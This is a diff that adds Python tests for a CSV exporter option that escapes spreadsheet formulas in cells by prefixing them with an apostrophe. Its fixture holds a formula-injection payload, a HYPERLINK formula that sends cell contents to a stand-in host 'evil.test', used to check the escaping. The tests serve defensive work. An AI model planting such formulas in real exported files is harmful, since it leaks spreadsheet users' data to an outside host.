@@ -257,6 +257,50 @@ def test_csv_delimiter(tmp_path: Path) -> None:
     assert read_csv(path, ";") == [["a", "b"], ["x;y", "1,5"]]
 
 
+HOSTILE = [
+    {
+        "=cmd": '=HYPERLINK("http://evil.test/?"&A1,"click")',
+        "plus": "+1+2",
+        "minus": "-2+3",
+        "at": "@SUM(1)",
+        "tab": "\t=1",
+        "cr": "\r=1",
+        "plain": "a=b",
+        "number": -5,
+    }
+]
+
+
+def test_csv_formulas_escape_defuses_cells_a_spreadsheet_would_run(tmp_path: Path) -> None:
+    options = CsvOptions(formulas="escape")
+    path = export(CsvExporter(str(tmp_path / "items.csv"), options), HOSTILE)
+    assert read_csv(path) == [
+        ["'=cmd", "plus", "minus", "at", "tab", "cr", "plain", "number"],
+        [
+            '\'=HYPERLINK("http://evil.test/?"&A1,"click")',
+            "'+1+2",
+            "'-2+3",
+            "'@SUM(1)",
+            "'\t=1",
+            "'\r=1",
+            "a=b",
+            "-5",
+        ],
+    ]
+
+
+def test_csv_keeps_cells_as_scraped_by_default(tmp_path: Path) -> None:
+    path = export(CsvExporter(str(tmp_path / "items.csv")), HOSTILE)
+    assert read_csv(path)[1][:3] == ['=HYPERLINK("http://evil.test/?"&A1,"click")', "+1+2", "-2+3"]
+
+
+def test_csv_formulas_escape_appends_under_its_own_escaped_header(tmp_path: Path) -> None:
+    options = CsvOptions(formulas="escape")
+    path = export(CsvExporter(str(tmp_path / "items.csv"), options), [{"=k": "=1"}])
+    export(CsvExporter(str(tmp_path / "items.csv"), options, append=True), [{"=k": "=2"}])
+    assert read_csv(path) == [["'=k"], ["'=1"], ["'=2"]]
+
+
 def test_csv_late_key_gets_a_column_and_the_header_is_rewritten_at_close(tmp_path: Path) -> None:
     exporter = CsvExporter(str(tmp_path / "items.csv"))
     path = Path(exporter.path)
